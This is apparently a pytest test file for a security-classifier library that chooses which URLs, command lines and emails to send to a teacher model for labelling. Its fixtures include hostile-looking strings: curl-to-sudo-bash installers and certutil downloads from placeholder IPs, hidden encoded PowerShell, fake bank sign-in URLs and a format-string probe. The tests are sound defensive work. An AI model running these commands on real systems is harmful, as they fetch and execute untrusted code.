"""Selection strategies: what to spend teacher calls on."""

import gzip
import json

import numpy as np
import pytest

from smallworld import calibrate
from smallworld import selection
from smallworld.student.linear import LinearStudent


def _rows(texts):
    return [{"id": str(i), "text": t} for i, t in enumerate(texts)]


def test_near_duplicates_cluster_and_unrelated_do_not():
    texts = [f"http://shop.example-store.test/catalog/item.php?id={i}&ref=mail" for i in range(20)]
    texts += ["https://docs.python.org/3/library/json.html", "powershell -enc SQBFAFgA", "git status"]
    cl = selection.near_duplicate_clusters(texts)
    assert len(set(cl[:20])) == 1
    assert len(set(cl)) == 4


def test_dedup_asks_one_representative_and_the_rest_inherit():
    texts = [f"curl -s http://198.51.100.{i}/install.sh | sudo bash -s -- --token abcdef" for i in range(10, 40)]
    texts += ["ls -la", "ping -c 4 10.0.0.1"]
    sel = selection.select("dedup", _rows(texts), budget=10)
    assert len(sel.ask) == 3
    inherited = sum(len(v) for v in sel.members.values())
    assert inherited == 29 and len(sel.ask) + inherited == len(texts)


def test_exact_duplicates_and_already_labelled_rows_are_never_asked():
    rows = _rows(["ls -la", "LS   -la", "git status", "whoami"])
    picked = selection.select("random", rows, budget=10, exclude={"whoami"}).ask
    texts = [rows[i]["text"] for i in picked]
    assert sorted(selection._fold(t) for t in texts) == ["git status", "ls -la"]


def test_uncertainty_picks_the_smallest_margins():
    texts = ["alpha"] * 5 + ["beta"] * 5
    m = LinearStudent(("a", "b"), {"dim_bits": 10}).fit(texts, np.array([[1, 0]] * 5 + [[0, 1]] * 5, float))
    rows = _rows(["alpha", "beta", "alpha beta", "gamma alpha beta"])
    sel = selection.select("uncertainty", rows, budget=2, student=m, feature_cfg={"dim_bits": 10})
    margins = selection.margins(m, [r["text"] for r in rows])
    assert sorted(sel.ask) == sorted(np.argsort(margins)[:2].tolist())


def test_diversity_covers_distinct_groups_first():
    groups = [[f"certutil -urlcache -split -f http://203.0.113.{i}/a.exe a.exe" for i in range(30)],
              [f"https://login.bank{i}.example.test/signin?session={i}" for i in range(30)],
              [f"Subject: your invoice {i} is attached please review" for i in range(30)]]
    texts = [t for g in groups for t in g]
    sel = selection.select("diversity", _rows(texts), budget=3, feature_cfg={"dim_bits": 16})
    assert sorted(i // 30 for i in sel.ask) == [0, 1, 2]


def test_combined_on_real_telemetry_is_fast_and_within_budget(data_dir):
    rows = [json.loads(x) for x in gzip.open(data_dir / "urls" / "telemetry.jsonl.gz", "rt")]
    seed = [json.loads(x) for x in gzip.open(data_dir / "urls" / "train.jsonl.gz", "rt")][:500]
    m = LinearStudent(("phishing", "benign")).fit(
        [r["text"] for r in seed], np.array([[r["label"] == "phishing", r["label"] == "benign"] for r in seed], float))
    sel = selection.select("combined", rows, budget=200, student=m, feature_cfg={}, known_texts=[r["text"] for r in seed])
    assert len(sel.ask) == 200 and len(set(sel.ask)) == 200
    folded = [selection._fold(rows[i]["text"]) for i in sel.ask]
    assert len(set(folded)) == 200


def test_proportional_quota_follows_cluster_sizes_and_spends_the_budget():
    q = selection.proportional_quota(np.array([60, 30, 9, 1]), 10)
    assert q.tolist() == [6, 3, 1, 0] and q.sum() == 10
    q = selection.proportional_quota(np.array([2, 50]), 20)  # never more than a cluster holds
    assert q.sum() == 20 and q[0] <= 2


def test_cluster_strategy_keeps_the_pools_mix_of_kinds():
    """Stratified over k-means clusters: a kind of item that is 80% of the pool gets about 80% of the calls,
    and a small kind (5%) is never left out, as a random sample of 20 can leave it."""
    kinds = [[f"https://cdn{i}.static-assets.example/js/app.{i}.min.js?v={i * 7}" for i in range(400)],
             [f"powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0{i}" for i in range(75)],
             [f"Subject: meeting notes {i} attached, see you on thursday" for i in range(25)]]
    rows = _rows([t for k in kinds for t in k])
    kind = lambda i: 0 if i < 400 else 1 if i < 475 else 2
    sel = selection.select("cluster", rows, budget=20, feature_cfg={"dim_bits": 16})
    counts = np.bincount([kind(i) for i in sel.ask], minlength=3)
    assert len(sel.ask) == 20 and len(set(sel.ask)) == 20
    assert 14 <= counts[0] <= 18 and counts[1] >= 2 and counts[2] >= 1


def test_mixed_strategy_is_half_random_half_uncertain(data_dir):
    rows = [json.loads(x) for x in gzip.open(data_dir / "urls" / "telemetry.jsonl.gz", "rt")][:1500]
    seed = [json.loads(x) for x in gzip.open(data_dir / "urls" / "train.jsonl.gz", "rt")][:300]
    m = LinearStudent(("phishing", "benign")).fit(
        [r["text"] for r in seed], np.array([[r["label"] == "phishing", r["label"] == "benign"] for r in seed], float))
    rnd = selection.select("random", rows, budget=100).ask
    unc = selection.select("uncertainty", rows, budget=100, student=m, feature_cfg={}).ask
    mix = selection.select("mixed", rows, budget=100, student=m, feature_cfg={}).ask
    assert len(mix) == 100 and len(set(mix)) == 100
    assert mix[:50] == rnd[:50]  # the random share: the random strategy's own first picks
    marg = selection.margins(m, [rows[i]["text"] for i in mix[50:]])
    assert np.median(marg) < np.median(selection.margins(m, [rows[i]["text"] for i in rnd[50:]]))
    assert len(set(unc) & set(mix[50:])) >= 25


def test_density_prefers_typical_rows_over_outliers_at_equal_uncertainty():
    texts = [f"https://login.example-bank.test/signin?session={i}&lang=en" for i in range(60)]
    texts += ["zq9 xk2 vv8 !!##", "0x41414141 %n%n%n"]
    E = selection.embed(texts, {"dim_bits": 16})
    d = selection.density(E)
    assert d[:60].min() > d[60:].max()


@pytest.mark.parametrize("strategy", selection.STRATEGIES)
def test_every_strategy_runs_with_an_empty_pool(strategy):
    m = LinearStudent(("a", "b"), {"dim_bits": 10}).fit(["x", "y"], np.eye(2))
    assert selection.select(strategy, [], budget=5, student=m, feature_cfg={"dim_bits": 10}).ask == []


def _two_models(seed=0):
    rng = np.random.default_rng(seed)
    y = rng.integers(0, 2, 400)

    def model(signal):
        z = signal * (2 * y - 1) + rng.normal(size=len(y))
        p = 1 / (1 + np.exp(-z))
        return np.c_[1 - p, p]

    return y, model


def test_teacher_student_combiner_learns_which_model_to_trust():
    """The learned rule: fitted on labelled rows, the combination follows the informative model and beats either
    alone when both carry independent signal."""
    from sklearn.metrics import roc_auc_score

    from smallworld.calibrate import Combiner

    y, model = _two_models()
    noise, good, other = model(0.0), model(2.0), model(1.5)
    tr, te = slice(0, 200), slice(200, 400)
    c = Combiner(2, "learned").fit(noise[tr], good[tr], y[tr])
    w = c.cal.coef[1]
    assert abs(w[1]) > 5 * abs(w[0])  # the student's log-odds carry the weight, the noisy teacher's do not
    c = Combiner(2, "learned").fit(good[tr], other[tr], y[tr])
    auc = lambda P: roc_auc_score(y[te], P[:, 1])
    assert auc(c.transform(good[te], other[te])) > max(auc(good[te]), auc(other[te]))
    P = c.transform(good[te], other[te])
    assert np.allclose(P.sum(axis=1), 1)
    assert c.to_dict()["rule"] == "learned"


def test_teacher_student_combiner_equal_rule_sums_calibrated_log_odds():
    """The default rule: each model calibrated on the same rows on its own, log-odds summed. Where the teacher
    says 0.5 the (calibrated) student decides alone; with two informative models it beats either; it is the
    product of the two calibrators, stored as plain numbers."""
    from sklearn.metrics import roc_auc_score

    from smallworld.calibrate import Calibrator, Combiner

    y, model = _two_models(1)
    good, other = model(2.0), model(1.5)
    tr, te = slice(0, 200), slice(200, 400)
    c = Combiner(2).fit(good[tr], other[tr], y[tr])
    assert c.rule == "equal" and c.fitted
    auc = lambda P: roc_auc_score(y[te], P[:, 1])
    P = c.transform(good[te], other[te])
    assert np.allclose(P.sum(axis=1), 1)
    assert auc(P) > max(auc(good[te]), auc(other[te]))
    tcal, scal = Calibrator(2).fit(good[tr], y[tr]), Calibrator(2).fit(other[tr], y[tr])
    logit = lambda Q: np.log(Q[:, 1]) - np.log(Q[:, 0])
    want = logit(tcal.transform(good[te])) + logit(scal.transform(other[te]))
    assert np.allclose(P[:, 1], 1 / (1 + np.exp(-want)), atol=1e-5)
    # a teacher whose calibrated answer is 0.5 leaves the decision to the student
    half = np.full((len(y[te]), 2), 0.5)
    unsure = tcal.transform(half)[0, 1]  # the calibrated teacher's 0.5: its bias alone
    Q = c.transform(half, other[te])
    bias = np.log(unsure / (1 - unsure))
    assert np.allclose(Q[:, 1], 1 / (1 + np.exp(-(logit(scal.transform(other[te])) + bias))), atol=1e-5)
    assert json.loads(json.dumps(c.to_dict()))["rule"] == "equal"
    # several students: one more calibrated expert each
    third = model(1.0)
    c3 = Combiner(2).fit(good[tr], [other[tr], third[tr]], y[tr])
    want3 = want + logit(Calibrator(2).fit(third[tr], y[tr]).transform(third[te]))
    assert np.allclose(c3.transform(good[te], [other[te], third[te]])[:, 1], 1 / (1 + np.exp(-want3)), atol=1e-5)
    assert len(c3.to_dict()["students"]) == 2
    with pytest.raises(ValueError, match="combination rule"):
        Combiner(2, "average")


def test_group_out_of_fold_probabilities_do_not_see_the_rows_own_tool():
    """cross_val_proba with groups scores each row with a model that never saw its group: a row whose label
    is carried only by its group's own token is confidently right with random folds (its group-mates taught
    the model) and near chance with group folds — the honest confidence the teacher+student weights need."""
    from smallworld.pipeline import TrainConfig, cross_val_proba, onehot, row_groups
    from smallworld.tasks import load_task

    task = load_task("cmdlines")
    rng = np.random.default_rng(0)
    rows = []
    for g in range(40):
        lab = "malicious" if rng.random() < 0.5 else "benign"  # nothing but the group's own token tells
        tool = "".join(rng.choice(list("bcdfghjklmnpqrstvwxz"), 7))
        for k in range(6):
            rows.append({"id": f"{g}-{k}", "group": f"tool{g}", "text": f"{tool} run --opt {rng.integers(1000)}",
                         "label": lab})
    texts = [r["text"] for r in rows]
    Y = onehot(task, [r["label"] for r in rows])
    w = np.ones(len(rows))
    cfg = TrainConfig(task="cmdlines", labelled="", out="")
    y = Y[:, task.pos_index]
    right = lambda P: float(np.mean(np.abs(P[:, task.pos_index] - y) < 0.5))
    assert right(cross_val_proba(task, cfg, texts, Y, w)) > 0.9
    assert right(cross_val_proba(task, cfg, texts, Y, w, groups=row_groups(rows))) < 0.75


def test_self_trained_student_never_sees_the_teachers_answer_for_the_item_or_its_near_duplicates(data_dir):
    """label's default student learns the seed plus the teacher's answers for the *other* items: changing the
    answer for one item leaves that item's (and its near-duplicate's) student probability untouched, moves
    other items', and moves the seed rows' out-of-fold probabilities (their students saw every answer). And
    it learns what the teacher sees in this data."""
    from smallworld import data as D
    from smallworld.pipeline import TrainConfig, self_trained_student, stratified_sample
    from smallworld.tasks import load_task

    task = load_task("cmdlines")
    seed = stratified_sample(list(D.iter_rows(str(data_dir / "cmdlines" / "train.jsonl.gz"))), 200, 0)
    tele = [r["text"] for r in D.iter_rows(str(data_dir / "cmdlines" / "telemetry.jsonl.gz"))][:150]
    texts = tele + [tele[0] + " "]  # a near-duplicate of the first item
    rng = np.random.default_rng(0)
    p = rng.uniform(0.05, 0.95, len(texts))
    P = np.c_[p, 1 - p] if task.labels[0] == task.positive else np.c_[1 - p, p]
    cfg = TrainConfig(task="cmdlines", labelled="", out="")
    A, cvA = self_trained_student(task, cfg, seed, texts, P)
    Q = P.copy()
    Q[0] = Q[0][::-1]  # the teacher's answer for item 0 turned round
    B, cvB = self_trained_student(task, cfg, seed, texts, Q)
    assert np.allclose(A[0], B[0]) and np.allclose(A[-1], B[-1])
    assert np.abs(A - B).max() > 1e-4
    assert any(not np.allclose(cvA[k], cvB[k]) for k in cvA)
    assert A.shape == P.shape and np.allclose(A.sum(axis=1), 1)
    # it learns what the teacher sees in this data: a teacher that calls every `grep` line malicious makes the
    # student score grep lines (each from the *other* grep lines' answers) above what the seed alone gives them
    from smallworld.pipeline import onehot
    from smallworld.student.linear import LinearStudent

    g = np.array(["grep" in t.split() for t in texts])
    assert g.sum() >= 10
    pos = np.where(g, 0.95, 0.05)
    P = np.zeros((len(texts), 2))
    P[:, task.pos_index], P[:, 1 - task.pos_index] = pos, 1 - pos
    C, _ = self_trained_student(task, cfg, seed, texts, P)
    alone = LinearStudent(task.labels, dict(task.features)).fit(
        [r["text"] for r in seed], onehot(task, [r["label"] for r in seed]), np.ones(len(seed))).predict_proba(texts)
    assert C[g, task.pos_index].mean() > alone[g, task.pos_index].mean() + 0.2
    assert C[g, task.pos_index].mean() > C[~g, task.pos_index].mean()


def test_two_students_with_three_classes_on_emails(data_dir):
    """The label default with a multi-class task: the self-trained student and the equal rule over the teacher
    and two students give proper three-class probabilities, and a teacher that knows the classes still ranks
    them after the combination."""
    from sklearn.metrics import roc_auc_score

    from smallworld import data as D
    from smallworld.pipeline import TrainConfig, onehot, row_groups, cross_val_proba, self_trained_student, stratified_sample
    from smallworld.student.linear import LinearStudent
    from smallworld.tasks import load_task

    task = load_task("emails")
    train = list(D.iter_rows(str(data_dir / "emails" / "train.jsonl.gz")))
    seed = stratified_sample(train, 150, 0)
    items = stratified_sample(list(D.iter_rows(str(data_dir / "emails" / "dev.jsonl.gz"))), 90, 1)
    texts = [task.normalise(r["text"]) for r in items]
    y = np.array([task.labels.index(r["label"]) for r in items])
    rng = np.random.default_rng(0)
    P = onehot(task, [r["label"] for r in items]) * 2.0 + rng.uniform(0, 1.5, (len(items), 3))  # a noisy teacher
    P /= P.sum(axis=1, keepdims=True)
    cfg = TrainConfig(task="emails", labelled="", out="")
    Pself, cv_self = self_trained_student(task, cfg, seed, texts, P)
    assert Pself.shape == (len(items), 3) and np.allclose(Pself.sum(axis=1), 1)
    st = [task.normalise(r["text"]) for r in seed]
    Ys, ws = onehot(task, [r["label"] for r in seed]), np.ones(len(seed))
    cv_seed = cross_val_proba(task, cfg, st, Ys, ws, groups=row_groups(seed))
    Pseed = LinearStudent(task.labels, dict(task.features)).fit(st, Ys, ws).predict_proba(texts)
    y_seed = Ys.argmax(axis=1)
    Pt_seed = Ys * 2.0 + rng.uniform(0, 1.5, Ys.shape)
    Pt_seed /= Pt_seed.sum(axis=1, keepdims=True)
    comb = calibrate.Combiner(3).fit(Pt_seed, [cv_seed, np.array([cv_self[r["id"]] for r in seed])], y_seed)
    out = comb.transform(P, [Pseed, Pself])
    assert out.shape == (len(items), 3) and np.allclose(out.sum(axis=1), 1)
    assert len(comb.to_dict()["students"]) == 2
    assert roc_auc_score(y, out, multi_class="ovr") > 0.9
